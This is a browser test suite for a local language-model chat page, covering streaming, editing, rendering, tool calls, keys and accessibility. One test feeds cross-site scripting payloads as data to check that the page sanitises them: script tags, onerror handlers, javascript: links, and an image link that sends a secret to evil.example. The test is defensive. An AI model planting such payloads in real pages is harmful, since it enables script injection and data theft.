// The chat, in a real browser against the real server.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer, request } from 'node:http';
import { after, afterEach, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { launch, open, SHOTS } from './browser.mjs';
import { Gufo } from './gufo.mjs';

const AXE = readFileSync(fileURLToPath(import.meta.resolve('axe-core')), 'utf8');
let browser;
let gufo;
let opened = [];

before(async () => {
  browser = await launch();
  gufo = await new Gufo().start(['--heartbeat', '1s']);
});
after(async () => {
  await browser?.close();
  await gufo?.stop();
});
afterEach(async () => {
  for (const { context } of opened) await context.close();
  opened = [];
});

async function chat(options, url = gufo.url) {
  const page = await open(browser, url, options);
  opened.push(page);
  return page;
}

/** Adds fields to the requests of a page that it has no setting for: what a model writes is up to the test. */
async function adding(page, fields) {
  await page.route('**/v1/chat/completions', async (route) => {
    const body = { ...JSON.parse(route.request().postData()), ...fields };
    await route.continue({ postData: JSON.stringify(body) });
  });
}

/** Has the model write and write, and nothing that Markdown draws as nothing. */
const LONG = { ignore_eos: true, speculate: false, grammar: 'root ::= ("owls hunt at night. ")+' }; // what a grammar forces comes too soon otherwise

/** A grammar that lets the model write this text and no other. */
function exactly(text) {
  return `root ::= ${JSON.stringify(text).replace(/[^\x00-\x7f]/g, (c) => c)}`;
}

async function say(page, text) {
  await page.getByLabel('Message', { exact: true }).fill(text);
  await page.keyboard.press('Enter');
}

/** What a message says about a failure. */
const problem = (page, text) => page.locator('.problem').getByText(text).first().waitFor();
const done = (page, n = 1) => page.waitForFunction((count) => document.querySelectorAll('.answer[aria-busy=false] .figures').length >= count, n);

async function accessible(page, what) {
  // Playwright evaluates outside the page's policy.
  await page.evaluate(AXE);
  const { violations } = await page.evaluate(() => globalThis.axe.run(document, { resultTypes: ['violations'] }));
  const serious = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical');
  assert.deepEqual(serious.map(({ id, nodes }) => `${what}: ${id} ${nodes.map(({ html }) => html).join(' ')}`), []);
}

test('a question is answered as a stream, with figures under it, and kept', async () => {
  const { page, faults } = await chat();
  await page.getByText('demo-chat answers on this machine').waitFor();
  await accessible(page, 'new chat');
  await page.screenshot({ path: `${SHOTS}/welcome.png` });
  await say(page, 'What is the capital of France?');
  await done(page);
  assert.match(await page.locator('.answer .markdown').innerText(), /Paris/);
  await page.locator('.figures > summary').click();
  assert.match(await page.locator('.figures dl').innerText(), /Wrote the answer[\s\S]*tokens\/s[\s\S]*Why not more[\s\S]*Nothing was kept/);
  await page.screenshot({ path: `${SHOTS}/chat.png` });
  await say(page, 'And of Italy?');
  await done(page, 2);
  await accessible(page, 'conversation');
  await page.reload();
  await page.getByRole('button', { name: /^What is the capital of France/ }).first().click();
  assert.equal(await page.locator('.message').count(), 4);
  assert.deepEqual(faults, []);
});

test('a stream is stopped by button and by key, and gone on with', async () => {
  const { page, faults } = await chat();
  await adding(page, LONG);
  await say(page, 'Tell me a long story.');
  await page.getByRole('button', { name: 'Stop' }).click();
  await page.getByText('stopped', { exact: true }).waitFor();
  await say(page, 'Once more.');
  await page.waitForFunction(() => (document.querySelector('.answer[aria-busy=true] .markdown')?.textContent ?? '').length > 20);
  await page.keyboard.press('Escape');
  await page.getByText('stopped', { exact: true }).nth(1).waitFor();
  const before = await page.locator('.answer').nth(1).locator('.markdown').innerText();
  await page.getByRole('button', { name: 'Go on' }).click();
  await page.waitForFunction((n) => (document.querySelectorAll('.answer')[1]?.querySelector('.markdown')?.textContent ?? '').length > n + 20, before.length);
  await page.keyboard.press('Escape');
  assert.ok((await page.locator('.answer').nth(1).locator('.markdown').innerText()).startsWith(before.slice(0, 20)));
  assert.deepEqual(faults, []);
});

test('a message is edited beside the earlier one, and answers are made again', async () => {
  const { page, faults } = await chat();
  await say(page, 'What is the capital of France?');
  await done(page);
  await page.getByLabel('Message', { exact: true }).press('ArrowUp');
  await page.getByLabel('Edit your message').fill('What is the capital of Spain?');
  await page.keyboard.press('Enter');
  await page.getByText('2 of 2').waitFor();
  await done(page);
  await page.getByRole('button', { name: 'The one before' }).click();
  await page.getByText('What is the capital of France?', { exact: true }).last().waitFor();
  await page.getByRole('button', { name: 'Answer again' }).click();
  await page.getByRole('group', { name: 'Alternatives' }).nth(1).waitFor();
  await done(page);
  await page.reload();
  await page.getByRole('button', { name: /^What is the capital of France/ }).first().click();
  assert.equal(await page.getByRole('group', { name: 'Alternatives' }).count(), 2);
  assert.deepEqual(faults, []);
});

test('hostile Markdown runs nothing, loads nothing and sends nothing', async () => {
  const { page, faults } = await chat();
  const hostile = [
    '# Title <script>window.hacked = 1</script>',
    '<img src=x onerror="window.hacked = 2"> ![p](https://evil.example/p.png?secret) ![q](/v1/models)',
    '<iframe src="https://evil.example"></iframe><svg onload="window.hacked=3"><style>*{display:none}</style>',
    '[click](javascript:window.hacked=4) [data](data:text/html,x) [fine](https://example.com/a)',
    '<form action="https://evil.example"><input name=x autofocus onfocus="window.hacked=5"></form>',
    '```html\n<img src=x onerror="window.hacked=6">\n```',
    '<a id="app" name="body">x</a> <b>bold</b>',
  ].join('\n\n');
  await adding(page, { grammar: exactly(hostile) });
  await say(page, 'Attack me.');
  await done(page);
  await page.locator('.code .hljs-tag').first().waitFor();
  assert.equal(await page.evaluate(() => globalThis.hacked), undefined);
  const answer = page.locator('.answer .markdown');
  assert.equal(await answer.locator('img, iframe, script, style, form, svg:not(.icon), [onerror], [onload], [id], [name]').count(), 0);
  assert.deepEqual(await answer.locator('a[href]').evaluateAll((links) => links.map((link) => link.getAttribute('href'))), [
    'https://evil.example/p.png?secret', 'https://example.com/a',
  ]);
  assert.equal(await answer.locator('a[href]').first().getAttribute('rel'), 'noopener noreferrer nofollow');
  assert.match(await answer.innerText(), /<script>window.hacked = 1<\/script>/);
  await page.screenshot({ path: `${SHOTS}/hostile.png` });
  assert.deepEqual(faults, []);
});

test('code is coloured and copied, tables and lists are drawn', async () => {
  const { page, context, faults } = await chat({ colorScheme: 'dark' });
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const text =
    'Recursion is a function that **calls itself** until a simple case is left.\n\n```python\ndef factorial(n):\n    # the simple case\n    if n < 2:\n        return 1\n    return n * factorial(n - 1)\n```\n\n'
    + '| n | factorial |\n| -: | -: |\n| 3 | 6 |\n| 5 | 120 |\n\n1. It asks for less each time.\n2. It ends at `1`.';
  await adding(page, { grammar: exactly(text) });
  await say(page, 'Explain recursion.');
  await done(page);
  await page.locator('.hljs-keyword').first().waitFor();
  await page.getByRole('button', { name: 'Copy code' }).click();
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^def factorial\(n\):\n/);
  assert.equal(await page.locator('.markdown td').count(), 4);
  await accessible(page, 'dark');
  await page.screenshot({ path: `${SHOTS}/dark.png` });
  assert.deepEqual(faults, []);
});

test('a prompt that is too long says how long it may be', async () => {
  const { page, faults } = await chat();
  await say(page, 'owl '.repeat(4000));
  await problem(page, 'too long for the model');
  assert.match(await page.locator('.problem').innerText(), /2,?048 tokens/);
  await page.screenshot({ path: `${SHOTS}/too-long.png` });
  await page.getByRole('button', { name: 'Edit the message' }).click();
  await page.getByLabel('Edit your message').fill('Hi');
  await page.keyboard.press('Enter');
  await done(page);
  assert.deepEqual(faults, []);
});

test('a text file goes with a message, and what is no text is refused', async () => {
  const { page, faults } = await chat();
  const chooser = page.locator('input[type=file][multiple]');
  await chooser.setInputFiles([
    { name: 'owls.txt', mimeType: 'text/plain', buffer: Buffer.from('Owls hunt at night.') },
    { name: 'x.png', mimeType: 'image/png', buffer: Buffer.from([0x89, 0x50, 0, 1, 255]) },
  ]);
  await page.getByText('x.png is no text').waitFor();
  const sent = page.waitForRequest('**/v1/chat/completions');
  await say(page, 'When do owls hunt?');
  assert.match(JSON.parse((await sent).postData()).messages[0].content, /^File: owls.txt\n```\nOwls hunt at night.\n```\n\nWhen/);
  await done(page);
  await page.locator('.question .file').first().waitFor();
  assert.deepEqual(faults, []);
});

test('answers follow a schema, and tools that the model calls are shown and answered', async () => {
  const { page, faults } = await chat();
  await page.getByRole('button', { name: 'Settings of this conversation' }).click();
  await page.getByLabel('System prompt').fill('Be brief.');
  await page.getByLabel('Temperature').fill('0');
  await page.getByLabel('Answers in JSON').fill('{"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"], "additionalProperties": false}');
  await accessible(page, 'settings');
  await page.screenshot({ path: `${SHOTS}/settings.png` });
  await page.keyboard.press('Escape');
  await say(page, 'A number.');
  await done(page);
  assert.equal(typeof JSON.parse(await page.locator('.answer .code code').innerText()).n, 'number');
  await page.getByRole('button', { name: 'Settings of this conversation' }).click();
  await page.getByRole('button', { name: 'Back to the defaults' }).click();
  await page.getByLabel('Tools that the model may call').fill('[{"name": "weather", "parameters": {"type": "object", "properties": {"city": {"enum": ["Rome"]}}, "required": ["city"], "additionalProperties": false}}]');
  await page.keyboard.press('Escape');
  await adding(page, { tool_choice: 'required' });
  await say(page, 'How is the weather in Rome?');
  await page.getByLabel('Result for the model').fill('Sunny');
  await page.screenshot({ path: `${SHOTS}/tool.png` });
  await page.unroute('**/v1/chat/completions');
  const sent = page.waitForRequest('**/v1/chat/completions');
  await page.getByRole('button', { name: 'Send the result' }).click();
  const { messages } = JSON.parse((await sent).postData());
  assert.deepEqual(messages.slice(-2).map(({ role }) => role), ['assistant', 'tool']);
  await done(page, 3);
  assert.deepEqual(faults, []);
});

test('conversations are searched, exported, imported and deleted', async () => {
  const { page, faults } = await chat();
  page.on('dialog', (dialog) => void dialog.accept());
  await say(page, 'What is the capital of France?');
  await done(page);
  await page.getByText('All conversations').click();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export to a file' }).click();
  const file = await (await download).path();
  await page.getByRole('button', { name: 'Delete all' }).click();
  await page.getByText('Conversations appear here').waitFor();
  await page.locator('input[type=file][accept]').setInputFiles(file);
  await page.getByText('One conversation was imported').waitFor();
  await page.getByLabel('Search conversations').fill('paris');
  await page.locator('.entry').waitFor();
  await page.getByLabel('Search conversations').fill('zebra');
  await page.getByText('Nothing was found').waitFor();
  await page.getByLabel('Search conversations').fill('');
  await page.locator('.entry').click();
  await page.locator('.answer').getByText('Paris').waitFor();
  assert.deepEqual(faults, []);
});

test('the page fits a phone, and everything is reached by keyboard', async () => {
  const { page, faults } = await chat({ viewport: { width: 390, height: 780 }, hasTouch: true, isMobile: true });
  await say(page, 'What is the capital of France?');
  await done(page);
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
  await accessible(page, 'phone');
  await page.screenshot({ path: `${SHOTS}/phone.png` });
  await page.getByRole('button', { name: 'Conversations', exact: true }).click();
  await page.getByRole('button', { name: 'New chat' }).waitFor();
  await page.screenshot({ path: `${SHOTS}/phone-list.png` });
  await page.keyboard.press('Escape');
  await page.locator('.picker > button').focus();
  await page.keyboard.press('Enter');
  await page.locator('[role=option]:focus').waitFor();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Control+k');
  await page.locator('input[type=search]:focus').waitFor();
  assert.deepEqual(faults, []);
});

// GUFO_MOST_FRAME_MS=50 makes the longest frame a matter of the test, on a machine that does nothing else.
test('while an answer grows, only its end is drawn, in a conversation of 500 turns and 100,000 tokens too', async () => {
  const { page, faults } = await chat();
  const turns = [];
  for (let i = 0; i < 500; i++) {
    turns.push({
      id: `t${i}`, parent: i === 0 ? null : `t${i - 1}`, role: i % 2 === 0 ? 'user' : 'assistant', created: i,
      content: i % 2 === 0 ? `Question ${i}` : `Answer **${i}**\n\n- one\n- two\n\n${'Owls hunt at night. '.repeat(85)}\n\n\`\`\`js\nlet x = ${i};\n\`\`\``,
    });
  }
  const file = { format: 'gufo-conversations', version: 1, conversations: [{ conversation: { title: 'Long', created: 1, updated: 2, chosen: {} }, turns }] };
  await page.locator('input[type=file][accept]').setInputFiles({ name: 'long.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
  await page.locator('.entry').click();
  await page.getByText('Question 498').waitFor();
  assert.ok((await page.locator('.answer .markdown').count()) < 60, 'Markdown is made where it is looked at');
  await page.waitForTimeout(300);
  await page.evaluate(() => {
    globalThis.changed = new Set();
    globalThis.frames = { all: 0, longest: 0, long: [] };
    let before = 0;
    const frame = (now) => {
      if (document.querySelector('.answer[aria-busy=true] .markdown') !== null && before > 0) {
        globalThis.frames.all++;
        globalThis.frames.longest = Math.max(globalThis.frames.longest, now - before);
      }
      before = now;
      requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
    new PerformanceObserver((list) => {
      // What the page's own script, style and layout took of a frame; waiting for the processor is not in it.
      for (const { duration, blockingDuration } of list.getEntries()) globalThis.frames.long.push([Math.round(duration), Math.round(blockingDuration)]);
    }).observe({ type: 'long-animation-frame' });
    const last = document.querySelectorAll('.message').length;
    new MutationObserver((records) => {
      for (const { target } of records) {
        const message = (target instanceof Element ? target : target.parentElement)?.closest('.message');
        if (message) globalThis.changed.add([...document.querySelectorAll('.message')].indexOf(message) < last ? 'earlier' : 'new');
      }
    }).observe(document.querySelector('.messages-inner'), { subtree: true, childList: true, characterData: true, attributes: true });
  });
  // Of so long a conversation the demo model takes the end only: what is measured is the page.
  await page.route('**/v1/chat/completions', (route) => {
    const { messages, ...rest } = JSON.parse(route.request().postData());
    return route.continue({ postData: JSON.stringify({ ...rest, messages: messages.slice(-1), ...LONG, max_tokens: 600 }) });
  });
  await say(page, 'Go on.');
  await page.waitForFunction(() => (document.querySelector('.answer[aria-busy=true] .markdown')?.textContent ?? '').length > 400);
  const { changed, frames, drawn } = await page.evaluate(() => ({
    changed: [...globalThis.changed], frames: globalThis.frames, drawn: document.querySelectorAll('.answer .markdown').length,
  }));
  console.log(`while streaming: ${frames.all} frames, ${Math.round(frames.longest)} ms between two at most; long ones (ms, blocking): ${JSON.stringify(frames.long)}`);
  assert.deepEqual(changed, ['new']);
  assert.ok(drawn < 60, 'no earlier answer became Markdown meanwhile');
  const most = Number(process.env.GUFO_MOST_FRAME_MS ?? NaN);
  if (Number.isFinite(most)) assert.ok(frames.all > 20 && frames.longest <= most, `${frames.longest} ms between two frames`);
  await page.keyboard.press('Escape');
  assert.deepEqual(faults, []);
});

test('a server that is killed in the middle of a stream comes back, and the answer goes on', async () => {
  const mortal = await new Gufo().start();
  try {
    const { page, faults } = await chat({}, mortal.url);
    await adding(page, LONG);
    await say(page, 'Tell me a long story.');
    await page.waitForFunction(() => (document.querySelector('.answer[aria-busy=true] .markdown')?.textContent ?? '').length > 40);
    await mortal.kill();
    await problem(page, 'The stream broke');
    await problem(page, 'The end of it is missing');
    await page.screenshot({ path: `${SHOTS}/broken.png` });
    const before = (await page.locator('.answer .markdown').innerText()).length;
    await page.getByRole('button', { name: 'Go on with the answer' }).click();
    await problem(page, 'can’t be reached');
    await mortal.start([], mortal.port);
    await page.getByRole('button', { name: 'Go on with the answer' }).click();
    await page.waitForFunction((n) => (document.querySelector('.answer .markdown')?.textContent ?? '').length > n + 40, before);
    await page.keyboard.press('Escape');
    assert.equal(await page.locator('.answer').count(), 1);
    assert.deepEqual(faults, []);
  } finally {
    await mortal.stop();
  }
});

test('who waits for others is told how many they are', async () => {
  const busy = await new Gufo().start(['--parallel', '1']);
  const others = new AbortController();
  try {
    const { page, faults } = await chat({}, busy.url);
    await page.getByText('answers on this machine').waitFor();
    const streams = [0, 1].map((i) => {
      const body = JSON.stringify({ messages: [{ role: 'user', content: `Hi ${i}` }], stream: true, ...LONG });
      return fetch(new URL('v1/chat/completions', busy.url), { method: 'POST', headers: { 'Content-Type': 'application/json' }, body, signal: others.signal });
    });
    for (const stream of streams) stream.then((response) => response.text()).catch(() => {});
    await Promise.any(streams); // it has begun
    await say(page, 'What is the capital of France?');
    await page.getByText(/requests wait for this model, yours among them|Yours is the next request/).waitFor();
    await page.screenshot({ path: `${SHOTS}/waiting.png` });
    others.abort();
    await done(page);
    assert.deepEqual(faults, []);
  } finally {
    others.abort();
    await busy.stop();
  }
});

test('a server with keys asks for one, and a key that is used up counts down', async () => {
  const guarded = new Gufo();
  try {
    const key = await guarded.key('--name', 'slow', '--limit', 'requests-per-minute=12');
    const wide = await guarded.key('--name', 'none-left', '--limit', 'tokens-per-month=40');
    await guarded.start();
    const { page, faults } = await chat({}, guarded.url);
    await page.getByRole('dialog', { name: 'API key' }).waitFor();
    await accessible(page, 'key');
    await page.screenshot({ path: `${SHOTS}/key.png` });
    await page.getByLabel('Key', { exact: true }).fill('wrong-key-wrong-key');
    await page.getByRole('button', { name: 'Use this key' }).click();
    await problem(page, 'This server needs an API key');
    await page.getByRole('dialog').getByLabel('Key', { exact: true }).fill(key);
    await page.getByRole('button', { name: 'Use this key' }).click();
    await page.getByText('answers on this machine').waitFor();
    for (let i = 0; i < 30 && (await page.locator('.problem').count()) === 0; i++) {
      await say(page, `Say ${i}.`);
      await page.locator('.answer').nth(i).locator('.figures, .problem').first().waitFor();
    }
    await page.getByText(/Trying again in \d+ s/).waitFor();
    await page.screenshot({ path: `${SHOTS}/countdown.png` });
    await page.locator('.problem').waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'API key' }).click();
    await page.getByLabel('Key', { exact: true }).fill(wide);
    await page.getByRole('button', { name: 'Use this key' }).click();
    await page.getByRole('button', { name: 'New chat' }).click();
    await say(page, 'Hello');
    await problem(page, 'budget of this key is used up');
    assert.deepEqual(faults, []);
  } finally {
    await guarded.stop();
  }
});

test('a new chat tells what is there, how to use it from elsewhere and how to get more', async () => {
  const { page, faults } = await chat();
  await page.getByText('answers on this machine').waitFor();
  await page.getByRole('button', { name: 'Use it from code and agents' }).click();
  assert.match(await page.getByRole('dialog').innerText(), new RegExp(`${gufo.url}v1`));
  await page.getByRole('button', { name: 'Python', exact: true }).click();
  assert.match(await page.getByRole('dialog').locator('code').last().innerText(), /model="demo-chat"/);
  await accessible(page, 'connect');
  await page.screenshot({ path: `${SHOTS}/connect.png` });
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Other models' }).click();
  await page.getByText('gufo pull hf:').waitFor();
  await page.getByText(/These would fit this machine|None of the models that Gufo suggests/).waitFor();
  await accessible(page, 'other models');
  await page.screenshot({ path: `${SHOTS}/other-models.png` });
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'What is the capital of France?' }).click();
  assert.equal(await page.getByLabel('Message', { exact: true }).inputValue(), 'What is the capital of France?');
  assert.deepEqual(faults, []);
});

test('it works under a path behind a proxy', async () => {
  const proxy = createServer((from, to) => {
    if (!from.url.startsWith('/some/where/')) {
      to.writeHead(404).end();
      return;
    }
    const passed = request(new URL(from.url.slice('/some/where'.length), gufo.url), { method: from.method, headers: from.headers }, (answer) => {
      to.writeHead(answer.statusCode, answer.headers);
      answer.pipe(to);
    });
    from.pipe(passed);
  });
  await new Promise((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  try {
    const { page, faults } = await chat({}, `http://127.0.0.1:${proxy.address().port}/some/where/`);
    await say(page, 'What is the capital of France?');
    await done(page);
    await page.getByRole('link', { name: 'Operation' }).click();
    await page.getByText('administrator’s key').first().waitFor();
    assert.match(page.url(), /\/some\/where\/admin$/);
    assert.deepEqual(faults, []);
  } finally {
    proxy.closeAllConnections();
    proxy.close();
  }
});

test('the first look loads little, and nothing from elsewhere', async () => {
  const { page, context, faults } = await chat();
  await page.getByText('answers on this machine').waitFor();
  const loaded = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name, encodedBodySize }) => [name, encodedBodySize]));
  const scripts = loaded.filter(([name]) => name.endsWith('.js')).reduce((sum, [, size]) => sum + size, 0);
  assert.ok(scripts > 10_000 && scripts <= 100 * 1024, `${scripts} bytes of script`);
  assert.deepEqual(faults, []);
  await context.close();
});
